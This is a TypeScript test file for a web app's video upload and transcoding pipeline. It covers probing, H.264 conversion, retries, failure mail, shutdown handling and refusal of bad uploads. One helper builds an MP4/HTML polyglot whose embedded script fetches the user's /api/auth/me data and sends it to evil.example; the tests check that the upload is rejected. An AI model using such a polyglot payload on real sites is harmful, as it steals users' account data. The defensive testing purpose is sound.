// Videos on their way in: probed (ffprobe, or the container walker without it), refused when
// not a playable video or too long, transcoded in the background to an H.264 MP4 at the URL
// the upload answered, the original deleted; a transcode that keeps failing marks the media
// failed and mails its owner once.
import { spawnSync } from 'node:child_process';
import { chmodSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, describe, expect, it } from 'vitest';
import type { TMedia, TUploadResponse } from '../../../shared/schemas/media';
import type { TConfig } from '../../config';
import { buildTestApp, ENGINES, type TTestApp } from '../../test/build-test-app';
import { buildUser, cookieFor } from '../../test/factories';
import { failingDeletes } from '../../test/failing-storage';
import { multipartBody, type TUploadFile } from '../../lib/multipart-body';
import { claimVideoToProcess } from '../projects/media-processing.service';
import { MAX_TRANSCODE_ATTEMPTS, processPendingVideos, TRANSCODE_LEASE_MS } from './video-processing.service';

const FIXTURES = new URL('../../test/fixtures/', import.meta.url);
const CLIPS = ['mp4', 'webm', 'mov', 'avi'] as const;
const fixture = (name: string, filename = name): TUploadFile => ({ filename, content: readFileSync(new URL(name, FIXTURES)) });
const MINUTE_MS = 60_000;

/** A file that starts as an MP4 (an `ftyp` box, which is all the magic bytes look at) and goes on as a web page. */
function polyglot(): TUploadFile {
  const ftyp = Buffer.from('000000186674797069736f6d0000020069736f6d69736f32', 'hex');
  const page = Buffer.from(`<!DOCTYPE html><html><body><script>fetch('/api/auth/me').then(r=>r.text()).then(t=>new Image().src='https://evil.example/?'+t)</script>${' '.repeat(4096)}</body></html>`);
  return { filename: 'poly.mp4', content: Buffer.concat([ftyp, page]) };
}

const work = mkdtempSync(join(tmpdir(), 'video-processing-'));
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** A stand-in ffmpeg that says it is installed but fails every transcode. */
function brokenFfmpeg(): string {
  const path = join(work, 'broken-ffmpeg');
  writeFileSync(path, '#!/bin/sh\nfor arg in "$@"; do [ "$arg" = "-version" ] && exit 0; done\necho "Conversion failed!" >&2\nexit 1\n');
  chmodSync(path, 0o755);
  return path;
}

function ffprobeJson(file: string): { streams: { codec_name: string; codec_type: string; pix_fmt?: string; width?: number; height?: number }[] } {
  const result = spawnSync('ffprobe', ['-v', 'error', '-show_entries', 'stream=codec_name,codec_type,pix_fmt,width,height', '-of', 'json', file], { encoding: 'utf8' });
  expect(result.status).toBe(0);
  return JSON.parse(result.stdout) as ReturnType<typeof ffprobeJson>;
}

function filesUnder(dir: string): string[] {
  if (!existsSync(dir)) return [];
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map((entry) => join(entry.parentPath, entry.name));
}

describe.each(ENGINES)('video processing on %s', (engine) => {
  let t: TTestApp;
  let cookie: string;
  let owner: { id: number; email: string };
  afterEach(async () => {
    await t.close();
  });

  async function start(options: Parameters<typeof buildTestApp>[1] = {}) {
    t = await buildTestApp(engine, options);
    const user = await buildUser(t.ctx);
    owner = user;
    cookie = await cookieFor(t.ctx, user);
  }

  async function upload(files: TUploadFile[]) {
    const body = await multipartBody(files);
    return t.app.inject({ method: 'POST', url: '/api/upload', headers: { ...body.headers, cookie }, payload: body.payload });
  }

  async function uploadOne(file: TUploadFile): Promise<TMedia> {
    const response = await upload([file]);
    expect(response.statusCode).toBe(201);
    return (response.json() as TUploadResponse).files[0]!;
  }

  const rowOf = (id: number) => t.ctx.db.selectFrom('project_media').selectAll().where('id', '=', id).executeTakeFirstOrThrow();
  const quiet = () => ({ ...t.ctx, log: t.ctx.log.child({}, { level: 'silent' }) });
  const withMedia = (media: Partial<TConfig['media']>) => ({ ...quiet(), config: { ...t.config, media: { ...t.config.media, ...media } } });

  async function createProject(urls: string[]): Promise<{ id: number }> {
    const response = await t.app.inject({ method: 'POST', url: '/api/projects', headers: { cookie }, payload: { title: 'Koi at night', category: 'Animation', tags: ['koi'], images: urls } });
    expect(response.statusCode).toBe(201);
    return response.json<{ id: number }>();
  }

  it('transcodes each container (MP4, WebM, MOV, AVI) in the background to an H.264 MP4 at the URL the upload answered, then deletes the original', { timeout: 120_000 }, async () => {
    const deletes = failingDeletes(0);
    await start({ storage: deletes.wrap });
    const response = await upload(CLIPS.map((ext) => fixture(`clip.${ext}`)));
    expect(response.statusCode).toBe(201);
    const uploaded = (response.json() as TUploadResponse).files;
    for (const media of uploaded) {
      expect(media).toMatchObject({ type: 'video', status: 'processing', mime: 'video/mp4', width: 320, height: 240 });
      expect(media.url).toMatch(/\/full\.mp4$/);
      expect(media.variants.poster).toMatchObject({ mime: 'image/jpeg' });
      // Not there until transcoded: the client shows the poster meanwhile.
      expect((await t.app.inject({ method: 'GET', url: media.url })).statusCode).toBe(404);
    }
    const sources = await Promise.all(uploaded.map(async (media) => (await rowOf(media.id)).source_key));
    expect(sources.every((key) => typeof key === 'string')).toBe(true);
    // A project may take them while they are processing; its page says so.
    const project = await createProject(uploaded.map((media) => media.url));
    const before = await t.app.inject({ method: 'GET', url: `/api/projects/${project.id}` });
    expect(before.json<{ media: TMedia[] }>().media.map((media) => media.status)).toEqual(['processing', 'processing', 'processing', 'processing']);

    // One claim at a time: the first run takes the first video only, while another process could take the next.
    await claimVideoToProcess(quiet(), new Date(t.clock.now.getTime() + TRANSCODE_LEASE_MS));
    expect(await t.ctx.db.selectFrom('project_media').select('id').where('processing_attempts', '=', 1).execute()).toHaveLength(1);
    t.clock.advance(TRANSCODE_LEASE_MS);
    expect(await processPendingVideos(quiet())).toBe(4);
    expect(await processPendingVideos(quiet())).toBe(0);

    const page = (await t.app.inject({ method: 'GET', url: `/api/projects/${project.id}` })).json<{ media: TMedia[]; images: string[] }>();
    expect(page.images).toEqual(uploaded.map((media) => media.url));
    for (const [index, media] of page.media.entries()) {
      expect(media).toMatchObject({ status: 'ready', url: uploaded[index]!.url, mime: 'video/mp4', width: 320, height: 240, variants: { full: { url: uploaded[index]!.url, mime: 'video/mp4' } } });
      const served = await t.app.inject({ method: 'GET', url: media.url });
      expect(served.statusCode).toBe(200);
      expect(served.headers['content-type']).toBe('video/mp4');
      expect(media.size).toBe(served.rawPayload.length);
      const file = join(work, `${engine}-${CLIPS[index]}.mp4`);
      writeFileSync(file, served.rawPayload);
      const video = ffprobeJson(file).streams.find((stream) => stream.codec_type === 'video');
      expect([CLIPS[index], video?.codec_name, video?.pix_fmt]).toEqual([CLIPS[index], 'h264', 'yuv420p']);
      // +faststart: the index comes before the frames.
      expect(served.rawPayload.indexOf('moov')).toBeLessThan(served.rawPayload.indexOf('mdat'));
      const row = await rowOf(media.id);
      expect([row.source_key, row.processing_next_at]).toEqual([null, null]);
    }
    // Each original was scheduled for deletion and deleted: no file of it is left.
    expect(deletes.attempts.sort()).toEqual((sources as string[]).sort());
    expect(await t.ctx.db.selectFrom('file_deletions').selectAll().execute()).toEqual([]);
    expect(filesUnder(join(t.config.dataDir, 'media')).filter((path) => path.includes('/source.'))).toEqual([]);
    expect(filesUnder(join(t.config.dataDir, 'tmp'))).toEqual([]);
  });

  it('keeps the original for a retry when its deletion fails, through the durable file deletions', async () => {
    const deletes = failingDeletes(1);
    await start({ storage: deletes.wrap });
    const media = await uploadOne(fixture('clip.avi'));
    const { source_key: sourceKey } = await rowOf(media.id);
    expect(await processPendingVideos(quiet())).toBe(1);
    expect((await rowOf(media.id)).status).toBe('ready');
    expect((await t.ctx.db.selectFrom('file_deletions').select('storage_key').execute()).map((row) => row.storage_key)).toEqual([sourceKey]);
  });

  it('marks the media failed after repeated failed transcodes, mails the owner once, and shows it on the project', async () => {
    await start();
    const media = await uploadOne(fixture('clip.avi', 'koi.avi'));
    const project = await createProject([media.url]);
    const broken = withMedia({ ffmpegPath: brokenFfmpeg() });
    for (let attempt = 1; attempt < MAX_TRANSCODE_ATTEMPTS; attempt += 1) {
      expect(await processPendingVideos(broken)).toBe(1);
      expect(await rowOf(media.id)).toMatchObject({ status: 'processing', processing_attempts: attempt, processing_error: expect.stringContaining('Conversion failed!') });
      // Not due again before its backoff.
      expect(await processPendingVideos(broken)).toBe(0);
      t.clock.advance(30 * MINUTE_MS);
    }
    expect(await processPendingVideos(broken)).toBe(1);
    const row = await rowOf(media.id);
    expect(row).toMatchObject({ status: 'failed', source_key: null, processing_next_at: null });
    expect(await processPendingVideos(broken)).toBe(0);

    const mails = await t.ctx.db.selectFrom('outbox').selectAll().execute();
    expect(mails).toHaveLength(1);
    expect(mails[0]).toMatchObject({ to_address: owner.email, subject: 'Your video koi.avi could not be processed' });
    expect(mails[0]!.text_body).toContain('"Koi at night"');
    expect(filesUnder(join(t.config.dataDir, 'media')).filter((path) => path.includes('/source.'))).toEqual([]);

    const page = await t.app.inject({ method: 'GET', url: `/api/projects/${project.id}`, headers: { cookie } });
    expect(page.json<{ media: TMedia[] }>().media[0]).toMatchObject({ status: 'failed', variants: { poster: { mime: 'image/jpeg' } } });
  });

  it('stops ffmpeg at shutdown and leaves the video due again at once', async () => {
    await start();
    const media = await uploadOne(fixture('clip.webm'));
    const slow = join(work, 'slow-ffmpeg');
    writeFileSync(slow, '#!/bin/sh\nfor arg in "$@"; do [ "$arg" = "-version" ] && exit 0; done\nexec sleep 30\n');
    chmodSync(slow, 0o755);
    const shutdown = new AbortController();
    const started = Date.now();
    const running = processPendingVideos(withMedia({ ffmpegPath: slow }), { signal: shutdown.signal });
    setTimeout(() => shutdown.abort(), 500);
    expect(await running).toBe(1);
    expect(Date.now() - started).toBeLessThan(10_000);
    const row = await rowOf(media.id);
    expect(row).toMatchObject({ status: 'processing', processing_error: 'interrupted by a shutdown' });
    expect(new Date(row.processing_next_at!).getTime()).toBeLessThanOrEqual(t.ctx.now().getTime());
    expect(await processPendingVideos(quiet())).toBe(1);
    expect((await rowOf(media.id)).status).toBe('ready');
  });

  it('takes back a claim whose process died once its lease has run out', async () => {
    await start();
    const media = await uploadOne(fixture('clip.mov'));
    // A process claims the video and dies.
    expect(await claimVideoToProcess(quiet(), new Date(t.clock.now.getTime() + TRANSCODE_LEASE_MS))).toMatchObject({ id: media.id, attempts: 1 });
    expect(await processPendingVideos(quiet())).toBe(0);
    t.clock.advance(TRANSCODE_LEASE_MS);
    expect(await processPendingVideos(quiet())).toBe(1);
    expect(await rowOf(media.id)).toMatchObject({ status: 'ready', processing_attempts: 2 });
  });

  it('writes the MP4 of a video deleted meanwhile nowhere it would stay', async () => {
    await start();
    const media = await uploadOne(fixture('clip.mp4'));
    const deleteWhileTranscoding = { ...quiet(), storage: { ...t.ctx.storage, put: async (...args: Parameters<typeof t.ctx.storage.put>) => {
      await t.ctx.db.deleteFrom('project_media').where('id', '=', media.id).execute();
      await t.ctx.storage.put(...args);
    } } };
    expect(await processPendingVideos(deleteWhileTranscoding)).toBe(1);
    expect(filesUnder(join(t.config.dataDir, 'media'))).toEqual([]);
  });

  describe('refusals', () => {
    it('refuses a clip longer than MAX_VIDEO_SECONDS with 415 naming the file, keeping nothing', async () => {
      await start({ env: { MAX_VIDEO_SECONDS: '1' } });
      const response = await upload([fixture('gps.jpg'), fixture('clip.webm', 'long.webm')]);
      expect(response.statusCode).toBe(415);
      expect(response.json()).toEqual({ message: 'long.webm: Videos can be at most 1 second long' });
      expect(filesUnder(join(t.config.dataDir, 'media'))).toEqual([]);
    });

    it('refuses an MP4 that goes on as an HTML page, and a damaged video, with 415 naming the file', async () => {
      await start();
      const poly = await upload([polyglot()]);
      expect(poly.statusCode).toBe(415);
      expect(poly.json()).toEqual({ message: 'poly.mp4: The video could not be read: it holds no playable video stream, or the file is damaged' });
      const clip = fixture('clip.mp4').content;
      // Its header is intact, every frame is noise: nothing decodes.
      const frames = clip.indexOf('mdat') + 4;
      const damaged = { filename: 'damaged.mp4', content: Buffer.concat([clip.subarray(0, frames), Buffer.alloc(clip.length - frames, 0x41)]) };
      const broken = await upload([damaged]);
      expect(broken.statusCode).toBe(415);
      expect(broken.json()).toEqual({ message: 'damaged.mp4: The video could not be read: it holds no playable video stream, or the file is damaged' });
      expect(await t.ctx.db.selectFrom('project_media').selectAll().execute()).toEqual([]);
    });
  });

  describe('without ffmpeg', () => {
    const missing = { FFMPEG_PATH: '/nonexistent/ffmpeg', FFPROBE_PATH: '/nonexistent/ffprobe' };

    it('walks the container instead: keeps MP4, WebM and MOV as uploaded and ready, refuses AVI, the polyglot and a clip too long', async () => {
      await start({ env: missing });
      const response = await upload(['mp4', 'webm', 'mov'].map((ext) => fixture(`clip.${ext}`)));
      expect(response.statusCode).toBe(201);
      const files = (response.json() as TUploadResponse).files;
      expect(files.map((media) => [media.status, media.mime, media.width, media.height])).toEqual([
        ['ready', 'video/mp4', 320, 240],
        ['ready', 'video/webm', 320, 240],
        ['ready', 'video/quicktime', 320, 240],
      ]);
      for (const [index, ext] of ['mp4', 'webm', 'mov'].entries()) {
        const served = await t.app.inject({ method: 'GET', url: files[index]!.url });
        expect(served.rawPayload.equals(fixture(`clip.${ext}`).content)).toBe(true);
      }
      expect(await processPendingVideos(quiet())).toBe(0);

      const avi = await upload([fixture('clip.avi')]);
      expect(avi.statusCode).toBe(415);
      expect(avi.json()).toEqual({ message: 'clip.avi: AVI videos do not play in browsers, and this server cannot convert them: upload MP4 or WebM' });
      const poly = await upload([polyglot()]);
      expect(poly.statusCode).toBe(415);
      expect(poly.json<{ message: string }>().message).toMatch(/^poly\.mp4: The video could not be read/);
    });

    it('refuses a clip longer than MAX_VIDEO_SECONDS by the duration its container records', async () => {
      await start({ env: { ...missing, MAX_VIDEO_SECONDS: '1' } });
      const response = await upload([fixture('clip.mov', 'long.mov')]);
      expect(response.statusCode).toBe(415);
      expect(response.json()).toEqual({ message: 'long.mov: Videos can be at most 1 second long' });
    });
  });
});
